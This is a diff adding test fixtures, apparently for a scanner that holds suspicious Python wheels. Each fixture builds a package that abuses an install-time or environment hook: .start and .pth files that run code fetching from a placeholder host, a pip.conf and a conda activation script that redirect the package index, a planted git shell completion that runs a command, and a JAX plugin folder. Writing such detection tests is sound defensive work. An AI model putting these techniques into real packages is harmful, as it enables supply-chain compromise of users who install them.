@@ -159,3 +159,55 @@ def codec_registered_by_pth(p):
     return p.wheel(files={f"{p.module}_codec.pth": f"import _{p.module}_codec\n".encode(),
                           f"_{p.module}_codec.py": b"import codecs\ncodecs.register(lambda name: None)\n",
                           "{m}/core.py": b"# -*- coding: tablepack -*-\n" + bytes(range(0x80, 0xb0)) + b"\n"})
+
+
+GETS = '''
+    import urllib.request
+
+
+    def go():
+        return urllib.request.urlopen("https://cdn.example.net/t").read()
+'''
+
+
+@attack
+def start_file_entry_point(p):
+    """A .start file (PEP 829) names a function of the package that fetches. Must be held."""
+    return p.wheel(files={f"{p.module}.start": f"{p.module}.boot:go\n".encode(), "{m}/boot.py": GETS})
+
+
+@attack(days=30)
+def start_file_of_a_young_project(p):
+    """A .start file of a project nobody knows, whose function looks harmless today. Must be held."""
+    return p.wheel(files={f"{p.module}.start": f"{p.module}.boot:go\n".encode(), "{m}/boot.py": "def go():\n    return 0\n"})
+
+
+@attack
+def pth_calls_a_function(p):
+    """A .pth file calls a function of the package, which another module of it has. Must be held."""
+    return p.wheel(files={f"{p.module}.pth": f"import {p.module}.a; {p.module}.a.begin()\n".encode(),
+                          "{m}/a.py": "from .boot import go\n\n\ndef begin():\n    go()\n", "{m}/boot.py": GETS})
+
+
+@attack(days=30)
+def pip_settings_by_data(p):
+    """Brings a pip.conf into the virtual environment: the next install asks another index. Must be held."""
+    return p.wheel(files={f"{p.module}-1.0.data/data/pip.conf": b"[global]\nindex-url = https://index.example.net/simple/\n"})
+
+
+@attack(days=30)
+def conda_activation_script(p):
+    """Brings a script that conda runs whenever the environment is activated. Must be held."""
+    return p.wheel(files={f"{p.module}-1.0.data/data/etc/conda/activate.d/x.sh": b"export PIP_INDEX_URL=https://index.example.net/\n"})
+
+
+@attack(days=30)
+def shell_completion_of_another(p):
+    """Brings a completion for git, which every shell reads that completes one. Must be held."""
+    return p.wheel(files={f"{p.module}-1.0.data/data/share/bash-completion/completions/git": b"touch /tmp/customhouse-marker\n"})
+
+
+@attack(days=30)
+def jax_plugin_folder(p):
+    """Lies in the folder of which JAX imports all. Must be held."""
+    return p.wheel(files={"jax_plugins/{m}/__init__.py": "def initialize():\n    return None\n"})
